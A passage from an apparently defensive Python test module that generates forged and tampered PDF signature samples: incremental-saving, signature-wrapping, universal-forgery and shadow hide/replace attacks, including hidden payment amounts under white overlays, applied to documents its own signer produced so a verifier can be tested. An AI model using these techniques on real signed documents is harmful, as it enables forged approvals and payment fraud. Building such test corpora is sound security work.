"""A generator of the known attacks on PDF signatures, applied to documents Kyso itself signed.

Families (what the verifier must NOT call valid):

* ``ISA``  incremental saving attack (Mladenov et al. 2019): content appended after the
  signed range, with or without xref/trailer, objects of the signed revision redefined or
  freed, /Prev chain tricks, a second broken %%EOF.
* ``SWA``  signature wrapping (Mladenov et al. 2019): /ByteRange edited, and the real
  wrapping where the signed bytes after /Contents are moved behind a new xref.
* ``USF``  universal signature forgery (Mladenov et al. 2019): /Contents, /ByteRange,
  /Filter, /SubFilter removed, emptied or made nonsense; a CMS without signer info or
  certificates; ``adbe.x509.rsa_sha1`` with a junk /Cert.
* ``crypto``  a flipped byte in the signed range or in the signature value, another
  dev identity's certificate swapped into the CMS, the digest algorithm changed.
* ``shadow-hide``, ``shadow-replace``, ``shadow-hide-and-replace`` (Mainka et al. 2021):
  the attacker prepares the draft, Kyso signs it, a later update reveals what the
  signed revision hid or swaps what it showed.
* ``EAA``, ``SSA`` (Mainka et al. 2021, "Breaking the specification"): annotations and
  new signature fields on certified documents whose DocMDP forbids them.

Plus ``legit`` samples: later changes that must stay valid (B-LT DSS, B-LTA document
timestamp, a second approval signature, the Decree 30 clerk step, a DSS-only update,
form filling on a P=2 certified document).

Every mutation is a pure, deterministic function of its input bytes (pyHanko's writer is
used with a fixed /ID and without its ModDate stamping; the attacker's SSA signature is dated
one hour after the certification and made with an RSA key). The inputs are signed fresh by
:class:`SignedFactory` and are NOT byte-reproducible (each pyHanko update gets a random /ID,
timestamps come from the TSA); the factory caches them, so one factory yields one corpus.
"""
from __future__ import annotations

import dataclasses
import hashlib
import io
import re
import tempfile
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Callable

import pikepdf
from asn1crypto import algos, cms, keys
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.fields import MDPPerm
from pyhanko_certvalidator.registry import SimpleCertificateStore

from kyso.samples import build_pdf
from signer import Level, SigningEngine, SignRequest, SoftwareKeyHolder

ATTACK_FAMILIES = ("ISA", "SWA", "USF", "crypto", "shadow-hide", "shadow-replace",
                   "shadow-hide-and-replace", "EAA", "SSA")

TEXT_FIELD = "SoTien"
AMOUNT_SHOWN = "So tien thanh toan: 9.000.000 VND"
AMOUNT_HIDDEN = "So tien thanh toan: 900.000.000 VND"


@dataclasses.dataclass(frozen=True)
class Sample:
    name: str
    family: str
    data: bytes
    expect: str          # "not-valid" | "valid"
    note: str
    source: bytes = dataclasses.field(default=b"", repr=False, compare=False)  # the Kyso-signed input
    parses: bool = True  # meant to still open as a PDF (qpdf with its recovery)
    strict: bool = True  # meant to still open with qpdf's recovery OFF (False: the xref chain is broken)


@dataclasses.dataclass(frozen=True)
class Prepared:
    """A signed document plus the object numbers an attacker planted in its signed revision."""

    data: bytes
    objs: dict


# =====================================================================================
# raw PDF surgery (Kyso's documents use classic xref tables: pikepdf and pyHanko keep them)
# =====================================================================================

def stream_body(content: bytes, extra: bytes = b"") -> bytes:
    """The body of an (unfiltered) stream object."""
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


@dataclasses.dataclass(frozen=True)
class TrailerInfo:
    size: int
    root: bytes
    info: bytes | None
    id: bytes | None
    startxref: int


def trailer_info(data: bytes) -> TrailerInfo:
    tail = data[data.rfind(b"trailer"):]
    root = re.search(rb"/Root\s+(\d+\s+\d+\s+R)", tail)
    info = re.search(rb"/Info\s+(\d+\s+\d+\s+R)", tail)
    ident = re.search(rb"/ID\s*(\[[^\]]*\])", tail)
    size = re.search(rb"/Size\s+(\d+)", tail)
    startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    return TrailerInfo(size=int(size.group(1)), root=root.group(1), info=info.group(1) if info else None,
                       id=ident.group(1) if ident else None, startxref=startxref)


_AUTO = object()


def raw_update(data: bytes, objects: dict[int, bytes] | None = None, *, free: tuple[int, ...] = (),
               root: bytes | None = None, prev=_AUTO, xref: bool = True, trailer: bool = True,
               startxref: int | None = None) -> bytes:
    """Append an incremental update written by hand.

    ``objects``: object number -> body (generation 0); ``free``: object numbers marked free.
    ``xref=False`` writes no xref table (the trailer's startxref then points at the previous
    one, or at ``startxref``); ``trailer=False`` appends the objects and nothing else.
    ``prev``: the /Prev value (default: the previous startxref; None omits it).
    """
    objects = dict(sorted((objects or {}).items()))
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num, body in objects.items():
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    if not trailer:
        return bytes(out)
    t = trailer_info(data)
    xref_at = len(out)
    if xref:
        freed = sorted(free)
        entries = {0: b"%010d 65535 f \n" % (freed[0] if freed else 0)}
        for i, num in enumerate(freed):
            entries[num] = b"%010d 00001 f \n" % (freed[i + 1] if i + 1 < len(freed) else 0)
        for num, off in offsets.items():
            entries[num] = b"%010d 00000 n \n" % off
        out += b"xref\n"
        nums = sorted(entries)
        start = 0
        while start < len(nums):
            end = start
            while end + 1 < len(nums) and nums[end + 1] == nums[end] + 1:
                end += 1
            out += b"%d %d\n" % (nums[start], end - start + 1)
            for n in nums[start:end + 1]:
                out += entries[n]
            start = end + 1
    size = max([t.size, *(n + 1 for n in objects), *(n + 1 for n in free)])
    out += b"trailer\n<< /Size %d /Root %s" % (size, root or t.root)
    if t.info:
        out += b" /Info " + t.info
    if t.id:
        out += b" /ID " + t.id
    if prev is _AUTO:
        prev = t.startxref
    if prev is not None:
        out += b" /Prev %d" % prev
    out += b" >>\nstartxref\n%d\n%%%%EOF\n" % (xref_at if xref else (startxref if startxref is not None
                                                                     else t.startxref))
    return bytes(out)


class _Writer(IncrementalPdfFileWriter):
    """pyHanko's incremental writer, deterministic: fixed second /ID, no ModDate/Producer stamping."""

    def _update_meta(self):
        pass


def writer_for(data: bytes | io.BytesIO) -> _Writer:
    stream = data if isinstance(data, io.BytesIO) else io.BytesIO(data)
    data = stream.getvalue()
    w = _Writer(stream, strict=False)
    first = w._document_id[0]
    w._document_id = generic.ArrayObject([first, generic.ByteStringObject(hashlib.sha256(data).digest()[:16])])
    return w


def incremental(data: bytes, edit: Callable[[_Writer], None]) -> bytes:
    """A well-formed incremental update (proper xref and trailer) made by pyHanko's writer."""
    w = writer_for(data)
    edit(w)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def pyhanko_sign(data: bytes, meta: signers.PdfSignatureMetadata, signer: signers.Signer, *,
                 moment: datetime, pdf_signer_cls=signers.PdfSigner, reserved: int = 16384, **kwargs) -> bytes:
    """Sign with pyHanko directly (the certifier's or the attacker's tool), at a given moment and with a
    fixed /ID: deterministic for RSA keys."""
    import asyncio

    from pyhanko.sign.signers.pdf_cms import PdfCMSSignedAttributes as SignedAttrs

    buf = io.BytesIO(data)
    writer = writer_for(buf)
    pdf_signer = pdf_signer_cls(meta, signer=signer, **kwargs)

    async def go():
        session = pdf_signer.init_signing_session(writer)
        session.system_time = moment
        info = await session.perform_presign_validation(writer)
        tbs = session.prepare_tbs_document(validation_info=info, bytes_reserved=reserved)
        digest, out = tbs.digest_tbs_document(in_place=True)
        post = await tbs.perform_signature(document_digest=digest.document_digest,
                                           pdf_cms_signed_attrs=SignedAttrs(signing_time=moment))
        await post.post_signature_processing(out)

    asyncio.run(go())
    return buf.getvalue()


def signing_time(data: bytes) -> datetime:
    """The last signature's self-reported signing time (/M; PAdES puts no signingTime in the CMS)."""
    return _reader(data).embedded_signatures[-1].self_reported_timestamp


def replace_object(w: _Writer, ref, new_obj) -> None:
    """Redefine object ``ref`` (same number and generation) in the writer's update."""
    w.objects[(ref.generation, ref.idnum)] = new_obj


def _reader(data) -> PdfFileReader:
    """A reader for ``data`` (bytes), or ``data`` itself when it is already a reader (``writer.prev``:
    references used in a writer's update must come from the writer's own reader)."""
    if isinstance(data, PdfFileReader):
        return data
    return PdfFileReader(io.BytesIO(data), strict=False)


def page_refs(data) -> list:
    """Indirect references of the pages, in order (the page tree walked from /Root)."""
    out = []

    def walk(node_ref):
        node = node_ref.get_object()
        if node.get("/Type") == "/Pages":
            for kid in node.raw_get("/Kids"):
                walk(kid)
        else:
            out.append(node_ref)

    walk(_reader(data).root.raw_get("/Pages"))
    return out


def content_refs(data, page: int = 0) -> list:
    contents = page_refs(data)[page].get_object().raw_get("/Contents")
    if isinstance(contents, generic.IndirectObject) and isinstance(contents.get_object(), generic.ArrayObject):
        contents = contents.get_object()
    return list(contents) if isinstance(contents, generic.ArrayObject) else [contents]


def font_ref(data, page: int = 0, name: str = "/F1"):
    return page_refs(data)[page].get_object()["/Resources"]["/Font"].raw_get(name)


def _content_stream(text: bytes) -> generic.StreamObject:
    return generic.StreamObject({}, stream_data=text)


def _form_xobject(content: bytes, bbox, resources=None) -> generic.StreamObject:
    d = {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
         pdf_name("/BBox"): generic.ArrayObject([generic.FloatObject(v) for v in bbox])}
    if resources is not None:
        d[pdf_name("/Resources")] = resources
    return generic.StreamObject(d, stream_data=content)


def _helv(w) -> generic.IndirectObject:
    return w.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"), pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding")}))


def _text_box_appearance(w, text: str, width: float, height: float, *, opaque: bool = True):
    fill = b"q 1 1 1 rg 0 0 %.1f %.1f re f Q " % (width, height) if opaque else b""
    content = fill + b"BT 0 g /Helv 12 Tf 4 %.1f Td (%s) Tj ET" % (height / 2 - 4, text.encode("latin-1"))
    res = generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject({pdf_name("/Helv"): _helv(w)})})
    return w.add_object(_form_xobject(content, (0, 0, width, height), res))


# ---- signatures: where they are in the bytes ------------------------------------------

@dataclasses.dataclass(frozen=True)
class SigLoc:
    obj_start: int
    obj_end: int              # end of "endobj"
    contents: tuple[int, int]  # the hex string, '<' .. '>' inclusive
    byterange: tuple[int, ...]
    br_span: tuple[int, int]  # the '[' .. ']' of /ByteRange

    @property
    def hex(self) -> tuple[int, int]:
        return self.contents[0] + 1, self.contents[1] - 1


def signatures(data: bytes) -> list[SigLoc]:
    """Every signature dictionary with a /ByteRange, in file order."""
    out = []
    for m in re.finditer(rb"/ByteRange\s*(\[[^\]]*\])", data):
        obj_start = [o.start() for o in re.finditer(rb"\d+\s+\d+\s+obj\b", data[:m.start()])][-1]
        obj_end = data.index(b"endobj", m.end()) + len(b"endobj")
        c = re.compile(rb"/Contents\s*(<[0-9A-Fa-f\s]*>)").search(data, obj_start, obj_end)
        values = tuple(int(v) for v in re.findall(rb"-?\d+", m.group(1)))
        out.append(SigLoc(obj_start=obj_start, obj_end=obj_end, contents=(c.start(1), c.end(1)),
                          byterange=values, br_span=(m.start(1), m.end(1))))
    return out


def splice(data: bytes, start: int, end: int, new: bytes, *, pad: bytes = b" ") -> bytes:
    """Replace data[start:end] by ``new`` padded to the same length (offsets stay valid)."""
    length = end - start
    if len(new) > length:
        raise ValueError(f"replacement of {len(new)} bytes does not fit in {length}")
    return data[:start] + new + pad * (length - len(new)) + data[end:]


def set_byterange(data: bytes, sig: SigLoc, text: bytes) -> bytes:
    """Rewrite the /ByteRange value in place (pyHanko leaves room: it is padded with spaces)."""
    span_end = sig.br_span[1]
    while data[span_end:span_end + 1] == b" ":
        span_end += 1
    return splice(data, sig.br_span[0], span_end, text)


def cms_of(data: bytes, sig: SigLoc) -> cms.ContentInfo:
    der = bytes.fromhex(data[sig.hex[0]:sig.hex[1]].decode("ascii"))
    return cms.ContentInfo.load(der.rstrip(b"\x00") + b"\x00\x00", strict=False)


def put_cms(data: bytes, sig: SigLoc, der: bytes) -> bytes:
    return splice(data, sig.hex[0], sig.hex[1], der.hex().encode("ascii"), pad=b"0")


def _flip(data: bytes, pos: int) -> bytes:
    return data[:pos] + bytes([data[pos] ^ 0x01]) + data[pos + 1:]


# =====================================================================================
# drafts an attacker (or an office) prepares before Kyso signs
# =====================================================================================

def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False,
             deterministic_id=True)
    return out.getvalue()


def plain_draft(title: str = "Cong van so 125/UBND-VP") -> bytes:
    with build_pdf(pages=2, title=title) as pdf:
        return _save(pdf)


def shadow_draft() -> Prepared:
    """A draft that carries the shadow-attack material in what will be the SIGNED revision.

    Page 1 /Contents = [text, hidden amount, overlay (white box + the amount shown)].
    Page 2 draws a form XObject /Cover (white box + a date) over a hidden date, and a form
    XObject /Acct (the beneficiary account). Unreferenced objects are planted in a second
    (unsigned-yet) revision: an alternative page-1 content stream, and a whole alternative
    catalog with its own page tree.
    """
    with build_pdf(pages=2, title="Quyet dinh thanh toan") as pdf:
        p1, p2 = pdf.pages[0], pdf.pages[1]
        hidden = pdf.make_stream(b"BT /F1 14 Tf 72 340 Td (" + AMOUNT_HIDDEN.encode() + b") Tj ET")
        overlay = pdf.make_stream(b"q 1 1 1 rg 60 330 480 30 re f Q\nBT /F1 14 Tf 72 340 Td ("
                                  + AMOUNT_SHOWN.encode() + b") Tj ET")
        p1.obj.Contents = pikepdf.Array([p1.obj.Contents, hidden, overlay])
        font = p2.obj.Resources.Font.F1
        res = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        cover = pikepdf.Stream(pdf, b"q 1 1 1 rg 0 0 400 30 re f Q BT /F1 14 Tf 0 10 Td (Han thanh toan: 30/11/2026) Tj ET")
        cover.Type, cover.Subtype, cover.BBox, cover.Resources = (
            pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 400, 30]), res)
        acct = pikepdf.Stream(pdf, b"BT /F1 14 Tf 0 10 Td (Tai khoan nhan: 0123 4567 89 - Kho bac Hung Yen) Tj ET")
        acct.Type, acct.Subtype, acct.BBox, acct.Resources = (
            pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 450, 30]), res)
        p2.obj.Resources.XObject = pikepdf.Dictionary(Cover=pdf.make_indirect(cover), Acct=pdf.make_indirect(acct))
        p2.obj.Contents = pikepdf.Array([
            p2.obj.Contents,
            pdf.make_stream(b"BT /F1 14 Tf 72 340 Td (Han thanh toan: 01/01/2026) Tj ET"),
            pdf.make_stream(b"q 1 0 0 1 70 330 cm /Cover Do Q\nq 1 0 0 1 72 290 cm /Acct Do Q"),
        ])
        base = _save(pdf)
    # plant unreferenced objects in a second revision of the draft
    t = trailer_info(base)
    s = t.size
    font = font_ref(base).idnum
    objs = {"unused_content": s, "alt_content": s + 1, "alt_page": s + 2, "alt_pages": s + 3, "alt_catalog": s + 4}
    evil = (b"BT /F1 16 Tf 72 775 Td (Quyet dinh thanh toan) Tj ET\n"
            b"BT /F1 14 Tf 72 700 Td (" + AMOUNT_HIDDEN.encode() + b") Tj ET")
    planted = {
        s: stream_body(evil),
        s + 1: stream_body(b"BT /F1 16 Tf 72 775 Td (Quyet dinh huy bo) Tj ET\n"
                           b"BT /F1 12 Tf 72 700 Td (Van ban nay thay the toan bo quyet dinh truoc.) Tj ET"),
        s + 2: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 %d 0 R >> >> "
               b"/Contents %d 0 R >>" % (s + 3, font, s + 1),
        s + 3: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (s + 2),
        s + 4: b"<< /Type /Catalog /Pages %d 0 R >>" % (s + 3),
    }
    return Prepared(data=raw_update(base, planted), objs=objs)


def field_draft(*, value: str | None = None, lock: bool = False, sig_fields: tuple[str, ...] = ()) -> bytes:
    """A draft with a text field ``SoTien`` (pre-filled with ``value`` and its appearance, or empty)
    and empty invisible signature fields; with ``lock`` the first of them locks ``SoTien`` (FieldMDP)."""
    with build_pdf(pages=2, title="Giay de nghi thanh toan") as pdf:
        page = pdf.pages[0]
        helv = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                                    BaseFont=pikepdf.Name.Helvetica,
                                                    Encoding=pikepdf.Name.WinAnsiEncoding))
        pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(
            Fields=pikepdf.Array(), DA=pikepdf.String("/Helv 0 Tf 0 g"),
            DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=helv))))
        page.obj.Annots = pdf.make_indirect(pikepdf.Array())
        rect = [72, 320, 372, 346]
        tx = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx,
                                T=pikepdf.String(TEXT_FIELD), Rect=pikepdf.Array(rect), F=4, P=page.obj,
                                DA=pikepdf.String("/Helv 12 Tf 0 g"))
        if value is not None:
            ap = pikepdf.Stream(pdf, b"/Tx BMC BT /Helv 12 Tf 0 g 4 9 Td (" + value.encode("latin-1") + b") Tj ET EMC")
            ap.Type, ap.Subtype, ap.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 300, 26])
            ap.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=helv))
            tx.V = pikepdf.String(value)
            tx.AP = pikepdf.Dictionary(N=pdf.make_indirect(ap))
        tx = pdf.make_indirect(tx)
        page.obj.Annots.append(tx)
        pdf.Root.AcroForm.Fields.append(tx)
        for i, name in enumerate(sig_fields):
            sig = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Sig,
                                     T=pikepdf.String(name), Rect=pikepdf.Array([0, 0, 0, 0]), F=4, P=page.obj)
            if lock and i == 0:
                sig.Lock = pikepdf.Dictionary(Type=pikepdf.Name.SigFieldLock, Action=pikepdf.Name.Include,
                                              Fields=pikepdf.Array([pikepdf.String(TEXT_FIELD)]))
            sig = pdf.make_indirect(sig)
            page.obj.Annots.append(sig)
            pdf.Root.AcroForm.Fields.append(sig)
        return _save(pdf)


# =====================================================================================
# the factory of Kyso-signed inputs
# =====================================================================================

class SignedFactory:
    """Fresh documents signed by Kyso (and, for certification, by pyHanko with a dev key).

    ``SignedFactory(pki, engine)`` from the test fixtures, or ``SignedFactory.for_dev_pki(pki)``
    with a fixed clock. Results are cached per factory (the generators reuse them).
    """

    def __init__(self, pki, engine: SigningEngine, *, official: str = "nguyen-van-an",
                 other: str = "tran-thi-bich-ngoc", attacker: str = "le-hoang-phuc",
                 agency: str = "agency-ubnd-hung-yen", workdir: Path | None = None,
                 clock: Callable[[], datetime] | None = None) -> None:
        """``official`` (RSA) signs the victims; ``other`` (ECDSA) is the second approver and the
        certificate swapped in; ``attacker`` (RSA, trusted: a colleague) signs the SSA signatures;
        ``clock`` dates the pyHanko certification signatures (default: now)."""
        self.pki = pki
        self.engine = engine
        self.official, self.other, self.attacker, self.agency = official, other, attacker, agency
        self.clock = clock or (lambda: datetime.now(timezone.utc))
        self.workdir = Path(workdir) if workdir else Path(tempfile.mkdtemp(prefix="kyso-attacks-"))
        self._cache: dict = {}

    @classmethod
    def for_dev_pki(cls, pki, *, moment: datetime | None = None, **kwargs) -> "SignedFactory":
        """A factory with its own engine whose clock is frozen at ``moment`` (default: now); the dev
        PKI's OCSP, CRL and TSA answer as of that moment too (``devpki.clocked``)."""
        moment = moment or datetime.now(timezone.utc)
        return cls(pki, SigningEngine.for_dev_pki(pki, clock=lambda: moment), clock=lambda: moment, **kwargs)

    def _cached(self, key, make):
        if key not in self._cache:
            self._cache[key] = make()
        return self._cache[key]

    def holder(self, label: str | None = None) -> SoftwareKeyHolder:
        label = label or self.official
        return self._cached(("holder", label), lambda: SoftwareKeyHolder.from_dev_pki(self.pki, label))

    def sign(self, document: bytes, *, level: Level = Level.B_B, field: str | None = "Sig1",
             label: str | None = None) -> bytes:
        """Kyso signs ``document`` (whatever an attacker or an office prepared)."""
        return self.engine.sign(SignRequest(document=document, level=level, field=field),
                                key_holder=self.holder(label)).data

    def simple(self, level: Level = Level.B_B) -> bytes:
        """A plain two-page document signed once (invisible field Sig1)."""
        return self._cached(("simple", level), lambda: self.sign(plain_draft(), level=level))

    def twice_signed(self) -> bytes:
        """Sig1 by the official, then Sig2 by another official (both B-B)."""
        return self._cached("twice", lambda: self.sign(self.simple(), field="Sig2", label=self.other))

    def shadow_prepared(self) -> Prepared:
        """The attacker's :func:`shadow_draft`, signed by the official (B-B)."""
        def make():
            draft = shadow_draft()
            return Prepared(data=self.sign(draft.data), objs=draft.objs)
        return self._cached("shadow", make)

    def with_locked_text_field(self) -> bytes:
        """``SoTien`` pre-filled, then signed in field Sig1 whose /Lock covers ``SoTien`` (FieldMDP)."""
        return self._cached("locked", lambda: self.sign(
            field_draft(value=AMOUNT_SHOWN, lock=True, sig_fields=("Sig1",))))

    def with_filled_text_field(self) -> bytes:
        """``SoTien`` pre-filled (value and appearance), signed in Sig1 (an approval signature, no lock)."""
        return self._cached("filled", lambda: self.sign(field_draft(value=AMOUNT_SHOWN, sig_fields=("Sig1",))))

    def with_text_field(self) -> bytes:
        """An EMPTY text field ``SoTien`` and an empty signature field Sig2, signed in Sig1."""
        return self._cached("textfield", lambda: self.sign(field_draft(sig_fields=("Sig1", "Sig2"))))

    def workflow(self):
        from registers.numbering import SqliteNumbering
        from signer.issuance import IssuanceWorkflow

        return self._cached("workflow", lambda: IssuanceWorkflow(
            engine=self.engine, numbering=SqliteNumbering(self.workdir / "numbering.sqlite")))

    def prepared_and_personally_signed(self, level: Level = Level.B_T) -> bytes:
        """A Decree 30 draft (empty number/date/signature fields), signed by the competent person."""
        from certs_dev.images import load_dev_image

        def make():
            wf = self.workflow()
            with build_pdf(pages=2, title="Chi thi ve cong tac van thu") as pdf:
                prepared = wf.prepare(_save(pdf))
            return wf.sign_personal(prepared, key_holder=self.holder(), level=level,
                                    signature_image=load_dev_image(self.official)).data
        return self._cached(("personal", level), make)

    def issued(self) -> bytes:
        """The clerk step (number, date, agency signature in one update) on the above."""
        from certs_dev.images import load_dev_image

        def make():
            return self.workflow().issue(
                self.prepared_and_personally_signed(), key_holder=self.holder(self.agency), agency="UBND",
                doc_type="CT", seal_image=load_dev_image(self.agency), agency_name="UBND tỉnh Hưng Yên",
                place="Hưng Yên", level=Level.B_T).signed.data
        return self._cached("issued", make)

    def pyhanko_signer(self, label: str | None = None) -> signers.SimpleSigner:
        label = label or self.official
        pem = self.pki.private_key_pem(label)
        der = keys.PrivateKeyInfo.load(_pem_to_der(pem))
        return signers.SimpleSigner(signing_cert=self.pki.certificate(label), signing_key=der,
                                    cert_registry=SimpleCertificateStore.from_certs(self.pki.chain(label)))

    def certified(self, perm: MDPPerm, *, prefilled: bool = False) -> bytes:
        """A certification (DocMDP ``perm``) signature by the official, made with pyHanko directly,
        on a draft with text field ``SoTien`` (pre-filled with its appearance if ``prefilled``)
        and an empty signature field Sig2."""
        def make():
            draft = field_draft(value=AMOUNT_SHOWN if prefilled else None, sig_fields=("Sig2",))
            meta = signers.PdfSignatureMetadata(field_name="Cert", certify=True, docmdp_permissions=perm,
                                                subfilter=fields.SigSeedSubFilter.PADES, md_algorithm="sha256")
            return pyhanko_sign(draft, meta, self.pyhanko_signer(), moment=self.clock())
        return self._cached(("certified", perm, prefilled), make)


def _pem_to_der(pem: bytes) -> bytes:
    from asn1crypto import pem as asn1_pem

    if asn1_pem.detect(pem):
        return asn1_pem.unarmor(pem)[2]
    return pem


# =====================================================================================
# ISA
# =====================================================================================

def isa_replace_page_content(data: bytes, text: str = "Noi dung da bi thay doi sau khi ky") -> bytes:
    """Well-formed update: page 1 gets a NEW content stream (the page dict is redefined)."""
    def edit(w):
        ref = page_refs(w.prev)[0]
        page = w.get_object(ref.reference)
        page[pdf_name("/Contents")] = w.add_object(_content_stream(
            b"BT /F1 16 Tf 72 775 Td (" + text.encode("latin-1") + b") Tj ET"))
        w.mark_update(ref.reference)
    return incremental(data, edit)


def isa_add_page(data: bytes) -> bytes:
    """Well-formed update: a new page appended to the page tree."""
    def edit(w):
        font = font_ref(w.prev)
        page = generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 595, 842)]),
            pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
                {pdf_name("/F1"): font})}),
            pdf_name("/Contents"): w.add_object(_content_stream(
                b"BT /F1 14 Tf 72 700 Td (Phu luc bo sung: huy bo dieu 1.) Tj ET")),
        })
        w.insert_page(page)
    return incremental(data, edit)


def _changed_content(data: bytes) -> tuple[int, bytes]:
    """(object number of page 1's first content stream, a changed decoded copy of it)."""
    ref = content_refs(data)[0]
    text = ref.get_object().data.replace(b"Line 1 of page 1", b"DA SUA DOI page 1")
    return ref.idnum, text


def isa_redefine_object(data: bytes, *, xref: bool = True, trailer: bool = True) -> bytes:
    """Page 1's content stream redefined under its OWN object number (raw update)."""
    num, text = _changed_content(data)
    return raw_update(data, {num: stream_body(text)}, xref=xref, trailer=trailer)


def isa_prev_skips_signed_revision(data: bytes) -> bytes:
    """An update whose /Prev points at the revision BEFORE the signature: readers following the
    chain never see the signature revision; the page content is redefined too."""
    num, text = _changed_content(data)
    starts = [int(v) for v in re.findall(rb"startxref\s+(\d+)", data)]
    return raw_update(data, {num: stream_body(text)}, prev=starts[-2])


def isa_prev_loop(data: bytes) -> bytes:
    """An update whose /Prev points at its own xref (a loop in the chain)."""
    num, text = _changed_content(data)
    out = raw_update(data, {num: stream_body(text)}, prev=0)
    xref_at = int(re.findall(rb"startxref\s+(\d+)", out)[-1])
    i = out.rindex(b"/Prev 0 >>")   # the trailer follows the xref: its offset does not move
    return out[:i] + b"/Prev %d >>" % xref_at + out[i + len(b"/Prev 0 >>"):]


def isa_prev_missing_full_xref(data: bytes) -> bytes:
    """A new revision with NO /Prev and a complete xref of its own that redefines page 1's content:
    the signed revisions are orphaned."""
    num, text = _changed_content(data)
    out = raw_update(data, {num: stream_body(text)}, prev=None)
    xref_at = int(re.findall(rb"startxref\s+(\d+)", out)[-1])
    offsets = _latest_offsets(out[:xref_at])
    size = trailer_info(data).size
    table = b"xref\n0 %d\n0000000000 65535 f \n" % size + b"".join(
        (b"%010d 00000 n \n" % offsets[n]) if n in offsets else b"0000000000 00001 f \n" for n in range(1, size))
    return out[:xref_at] + table + out[out.index(b"trailer", xref_at):]


def _latest_offsets(data: bytes) -> dict[int, int]:
    """Object number -> offset of its latest definition (scanning the bytes, as a recovering parser)."""
    offsets = {}
    for m in re.finditer(rb"(?<![0-9])(\d+) 0 obj\b", data):
        offsets[int(m.group(1))] = m.start()
    return offsets


def isa_free_signed_object(data: bytes) -> bytes:
    """An update that frees (xref 'f') page 1's content stream from the signed revision."""
    return raw_update(data, {}, free=(content_refs(data)[0].idnum,))


def isa_second_eof_broken_xref(data: bytes) -> bytes:
    """A second %%EOF whose xref is garbage and whose startxref points nowhere; a redefined
    content object sits before it for recovering parsers to find."""
    num, text = _changed_content(data)
    body = b"%d 0 obj\n" % num + stream_body(text) + b"\nendobj\n"
    return (data + body + b"xref\n0 2\n0000000000 65535 f \nGARBAGE 00000 n \n"
            b"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(data) * 3))


# =====================================================================================
# SWA
# =====================================================================================

def swa_shift_second_range(data: bytes, delta: int = 64) -> bytes:
    """The last signature's second range moved ``delta`` bytes later (same length)."""
    sig = signatures(data)[-1]
    a, b, c, d = sig.byterange
    return set_byterange(data, sig, b"[%d %d %d %d]" % (a, b, c + delta, d - delta))


def swa_shrink_second_range(data: bytes, keep: int = 16) -> bytes:
    """The second range shrunk to ``keep`` bytes: the rest of the file is outside the signature."""
    sig = signatures(data)[-1]
    a, b, c, d = sig.byterange
    return set_byterange(data, sig, b"[%d %d %d %d]" % (a, b, c, keep))


def swa_gap_larger_than_contents(data: bytes, extra: int = 200) -> bytes:
    """The unsigned gap widened on both sides of /Contents (signed bytes left out)."""
    sig = signatures(data)[-1]
    a, b, c, d = sig.byterange
    return set_byterange(data, sig, b"[%d %d %d %d]" % (a, b - extra, c + extra, d - extra))


def swa_into_other_contents(data: bytes) -> bytes:
    """In a twice-signed document: the LAST signature's ByteRange rewritten so that its gap is the
    FIRST signature's /Contents (the second signature's own /Contents becomes 'signed')."""
    first, last = signatures(data)[0], signatures(data)[-1]
    a, b, c, d = first.byterange
    return set_byterange(data, last, b"[0 %d %d %d]" % (b, c, len(data) - c))


def swa_wrap(data: bytes) -> bytes:
    """Mladenov's signature wrapping.

    The signed bytes after /Contents (the rest of the signature dictionary with /ByteRange, the
    xref and trailer of the signature revision) are COPIED to the end of the file and /ByteRange
    is changed to point at the copy, so the digest still matches. The live bytes right after
    /Contents now hold the edited /ByteRange, a malicious xref (at the very offset the copied
    trailer's startxref names) and a redefined page-1 content stream.
    """
    sig = signatures(data)[-1]
    a, b, c, d = sig.byterange
    assert c + d == len(data), "wrap the signature of the last revision"
    assert sig.br_span[0] >= c, "the /ByteRange must follow /Contents (pyHanko's layout)"
    num, text = _changed_content(data)
    old_xref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    old_trailer_at = data.index(b"trailer", old_xref)
    old_entries = data[old_xref:old_trailer_at]                       # "xref" + its subsections
    old_trailer = data[old_trailer_at:data.index(b">>", old_trailer_at) + 2]
    obj = b"%d 0 obj\n" % num + stream_body(text) + b"\nendobj\n"

